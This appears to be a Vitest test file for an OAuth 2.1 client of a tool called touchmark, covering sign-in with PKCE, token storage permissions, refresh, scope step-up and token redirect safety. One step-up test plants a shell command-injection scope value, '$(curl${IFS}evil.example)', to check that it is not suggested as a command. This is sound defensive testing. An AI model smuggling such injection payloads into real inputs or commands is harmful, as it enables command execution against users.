import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import type { ResourceAccess } from '../../../src/client/oauth/resource-access.ts'
import { sendHttp } from '../../../src/client/transport/http-request.ts'
import { type ProtectedPair, protectedPair } from '../../support/protected-pair.ts'

/** Posts one message through the access, and returns the status. */
async function call({ server }: ProtectedPair, access: ResourceAccess, tool = 'look'): Promise<number> {
  const message = { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: tool } }
  const target = { kind: 'url', url: server.url, headers: {}, access } as const
  const response = await sendHttp(target, {
    method: 'POST',
    url: server.url,
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify(message),
    signal: AbortSignal.timeout(60_000),
  })
  await response.body?.cancel()
  return response.status
}

describe('a sign-in', () => {
  test('asks as OAuth 2.1 wants: PKCE with S256, state, resource, a loopback redirect on a port of its own', async () => {
    const pair = await protectedPair()
    expect(await call(pair, pair.access())).toBe(200)
    const [asked] = pair.issuer.asked
    expect(asked?.get('code_challenge_method')).toBe('S256')
    expect(asked?.get('resource')).toBe(pair.server.url.href)
    expect(asked?.get('redirect_uri')).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/callback$/)
    expect(asked?.get('state')).toMatch(/^[\w-]{43}$/)
    const [form] = pair.issuer.forms
    expect(form?.get('resource')).toBe(pair.server.url.href)
    expect(form?.get('code_verifier')).toMatch(/^[\w-]{43}$/)
    expect(form?.get('client_secret')).toBeNull()
    expect(pair.issuer.registrations).toMatchObject([
      { token_endpoint_auth_method: 'none', redirect_uris: [asked?.get('redirect_uri')] },
    ])
  })

  test('keeps its tokens where only the user may read, and tells none of them', async () => {
    const pair = await protectedPair()
    await call(pair, pair.access())
    const folder = join(pair.stateFolder, 'tokens')
    const [file, ...others] = readdirSync(folder)
    expect(others).toEqual([])
    expect(statSync(folder).mode & 0o777).toBe(0o700)
    expect(statSync(join(folder, file ?? '')).mode & 0o777).toBe(0o600)
    const kept = readFileSync(join(folder, file ?? ''), 'utf8')
    expect(kept).toContain('"accessToken": "access-')
    expect(pair.told.join('\n')).not.toMatch(/access-|refresh-/)
    expect(pair.told.join('\n')).toContain(pair.issuer.issuer)
  })

  test('is not needed again after a restart', async () => {
    const pair = await protectedPair()
    await call(pair, pair.access())
    const again = await protectedAccessWithoutPerson(pair)
    expect(await call(pair, again)).toBe(200)
    expect(pair.issuer.asked).toHaveLength(1)
  })

  test('is made once by two processes that need it at the same time', async () => {
    const pair = await protectedPair()
    const statuses = await Promise.all([call(pair, pair.access()), call(pair, pair.access())])
    expect(statuses).toEqual([200, 200])
    expect(pair.issuer.asked).toHaveLength(1)
  })

  test('is made once by many requests of one session', async () => {
    const pair = await protectedPair()
    const access = pair.access()
    const statuses = await Promise.all(Array.from({ length: 8 }, () => call(pair, access)))
    expect(new Set(statuses)).toEqual(new Set([200]))
    expect(pair.issuer.asked).toHaveLength(1)
  })

  test('that nobody can make says what to run', async () => {
    const pair = await protectedPair()
    const access = await protectedAccessWithoutPerson(pair)
    await expect(call(pair, access)).rejects.toMatchObject({
      code: 'E_SERVER_AUTH',
      message: expect.stringContaining(`touchmark login ${pair.server.url.href}`),
    })
    expect(pair.issuer.requests).toEqual([])
  })
})

/** Access in a place without a browser or a terminal. */
async function protectedAccessWithoutPerson({ server, store }: ProtectedPair): Promise<ResourceAccess> {
  const { ResourceAccess: Access } = await import('../../../src/client/oauth/resource-access.ts')
  return new Access({ server: server.url, store, choice: {}, environment: {}, now: Date.now })
}

describe('a refresh', () => {
  test('comes before a token ends, and replaces both tokens', async () => {
    const pair = await protectedPair()
    await call(pair, pair.access())
    const before = await pair.store.load(pair.server.url.href)
    pair.issuer.expireAll()
    const later = { now: () => Date.now() + 3_590_000 }
    expect(await call(pair, pair.access(later))).toBe(200)
    const after = await pair.store.load(pair.server.url.href)
    expect(pair.issuer.forms.map((form) => form.get('grant_type'))).toEqual(['authorization_code', 'refresh_token'])
    expect(pair.issuer.forms[1]?.get('resource')).toBe(pair.server.url.href)
    expect(after?.accessToken).not.toBe(before?.accessToken)
    expect(after?.refreshToken).not.toBe(before?.refreshToken)
    // The ended token was not even sent.
    expect(pair.server.authorizations.filter((sent) => sent === `Bearer ${before?.accessToken}`)).toHaveLength(1)
    expect(pair.issuer.asked).toHaveLength(1)
  })

  test('follows a token that the server takes no more', async () => {
    const pair = await protectedPair()
    const access = pair.access()
    await call(pair, access)
    pair.issuer.expireAll()
    expect(await call(pair, access)).toBe(200)
    expect(pair.issuer.asked).toHaveLength(1)
  })

  test('is made once by four processes, so that no refresh token is used twice', async () => {
    const pair = await protectedPair()
    await call(pair, pair.access())
    pair.issuer.expireAll()
    const statuses = await Promise.all(Array.from({ length: 4 }, () => call(pair, pair.access())))
    expect(statuses).toEqual([200, 200, 200, 200])
    expect(pair.issuer.forms.filter((form) => form.get('grant_type') === 'refresh_token')).toHaveLength(1)
  })

  test('with a token that was used before ends the grant, and a person is asked', async () => {
    const pair = await protectedPair()
    await call(pair, pair.access())
    const stolen = (await pair.store.load(pair.server.url.href))?.refreshToken ?? ''
    const form = new URLSearchParams({
      grant_type: 'refresh_token',
      refresh_token: stolen,
      resource: pair.server.url.href,
    })
    await fetch(`${pair.issuer.issuer}/token`, { method: 'POST', body: form })
    pair.issuer.expireAll()
    const withoutPerson = await protectedAccessWithoutPerson(pair)
    await expect(call(pair, withoutPerson)).rejects.toMatchObject({ code: 'E_SERVER_AUTH' })
    expect((await pair.store.load(pair.server.url.href))?.refreshToken).toBeNull()
    expect(await call(pair, pair.access())).toBe(200)
    expect(pair.issuer.asked).toHaveLength(2)
  })

  test('of an issuer that is away leaves the grant as it was', async () => {
    const pair = await protectedPair()
    await call(pair, pair.access())
    pair.issuer.expireAll()
    pair.issuer.bends.instead = (_request, response) => Boolean(response.writeHead(503).end('away'))
    await expect(call(pair, await protectedAccessWithoutPerson(pair))).rejects.toMatchObject({
      code: 'E_SIGN_IN_FAILED',
    })
    delete pair.issuer.bends.instead
    expect(await call(pair, await protectedAccessWithoutPerson(pair))).toBe(200)
  })

  test('is not tried offline', async () => {
    const pair = await protectedPair()
    await call(pair, pair.access())
    pair.issuer.expireAll()
    const forms = pair.issuer.forms.length
    await expect(call(pair, pair.access({ offline: true }))).rejects.toMatchObject({ code: 'E_SERVER_AUTH' })
    expect(pair.issuer.forms).toHaveLength(forms)
  })
})

describe('a step-up', () => {
  test('asks for the scopes that are missing beside those that were granted, and the call goes on', async () => {
    const pair = await protectedPair()
    pair.server.bends.metadata = (honest) => ({ ...honest, scopes_supported: ['tools:read'] })
    pair.server.needs['change'] = 'tools:write'
    const access = pair.access()
    expect(await call(pair, access)).toBe(200)
    expect(await call(pair, access, 'change')).toBe(200)
    expect(pair.issuer.asked.map((asked) => asked.get('scope'))).toEqual(['tools:read', 'tools:read tools:write'])
  })

  test('that is granted and changes nothing is not asked for again', async () => {
    const pair = await protectedPair()
    pair.server.needs['change'] = 'tools:write'
    pair.issuer.bends.token = (honest) => ({ ...honest, scope: 'tools:read' })
    const access = pair.access()
    await call(pair, access)
    pair.server.bends.instead = (request, response, body) => {
      const isCall = request.method === 'POST' && body.includes('"change"')
      if (isCall)
        response.writeHead(403, { 'www-authenticate': 'Bearer error="insufficient_scope", scope="tools:write"' }).end()
      return isCall
    }
    expect(await call(pair, access, 'change')).toBe(403)
    expect(await call(pair, access, 'change')).toBe(403)
    expect(pair.issuer.asked).toHaveLength(2)
  })

  test('that nobody can make names the scopes', async () => {
    const pair = await protectedPair()
    await call(pair, pair.access())
    pair.server.needs['change'] = 'tools:write'
    await expect(call(pair, await protectedAccessWithoutPerson(pair), 'change')).rejects.toMatchObject({
      code: 'E_SERVER_AUTH',
      message: expect.stringContaining('touchmark login --scope "tools:write"'),
    })
  })

  test('whose scopes a shell would run is not suggested as a command', async () => {
    const pair = await protectedPair()
    await call(pair, pair.access())
    pair.server.needs['change'] = '$(curl${IFS}evil.example)'
    const error = await call(pair, await protectedAccessWithoutPerson(pair), 'change').catch((thrown: Error) => thrown)
    expect(String(error)).toContain(`run: touchmark login ${pair.server.url.href} `)
    expect(String(error)).toContain('with the scopes "$(curl')
  })

  test('is not what any other 403 is about', async () => {
    const pair = await protectedPair()
    const access = pair.access()
    await call(pair, access)
    pair.server.bends.instead = (request, response) =>
      request.method === 'POST' && Boolean(response.writeHead(403).end())
    expect(await call(pair, access)).toBe(403)
    expect(pair.issuer.asked).toHaveLength(1)
  })
})

describe('a server that refuses every token', () => {
  test('is asked a bounded number of times, and so is the person', async () => {
    const pair = await protectedPair()
    pair.server.bends.instead = (request, response) => {
      const isMcp = request.method === 'POST'
      if (isMcp) response.writeHead(401, { 'www-authenticate': 'Bearer error="invalid_token"' }).end()
      return isMcp
    }
    const access = pair.access()
    expect(await call(pair, access)).toBe(401)
    expect(await call(pair, access)).toBe(401)
    expect(pair.server.authorizations.length).toBeLessThan(8)
    expect(pair.issuer.asked.length).toBeLessThan(4)
  })

  test('with another scheme gets no sign-in', async () => {
    const pair = await protectedPair()
    pair.server.bends.challenge = () => 'Basic realm="x"'
    expect(await call(pair, pair.access())).toBe(401)
    expect(pair.issuer.requests).toEqual([])
  })
})

describe('a token', () => {
  test('does not follow a redirect, to another host or on the same', async () => {
    const pair = await protectedPair()
    const access = pair.access()
    await call(pair, access)
    const stranger = await protectedPair()
    for (const location of [stranger.server.url.href, new URL('/elsewhere', pair.server.url).href]) {
      pair.server.bends.instead = (request, response) => {
        return request.url === '/mcp' && Boolean(response.writeHead(307, { location }).end())
      }
      await expect(call(pair, access)).rejects.toMatchObject({ code: 'E_SERVER_TRANSPORT' })
    }
    expect(stranger.server.authorizations).toEqual([])
  })

  test('does not stand in the error of a server that sends it back', async () => {
    const pair = await protectedPair()
    const access = pair.access()
    await call(pair, access)
    const token = (await pair.store.load(pair.server.url.href))?.accessToken ?? ''
    const { capture } = await import('../../../src/client/capture/capture.ts')
    pair.server.bends.instead = (request, response) => {
      const error = { code: -32000, message: `you sent ${request.headers.authorization}` }
      response.writeHead(500, { 'content-type': 'application/json' })
      return Boolean(response.end(JSON.stringify({ jsonrpc: '2.0', id: null, error })))
    }
    const failed = capture({ kind: 'url', url: pair.server.url, headers: {}, access }, { environment: {} })
    const message: string = await failed.then(
      () => '',
      (error: Error) => error.message,
    )
    expect(message).toContain('you sent Bearer …')
    expect(message).not.toContain(token)
  })
})
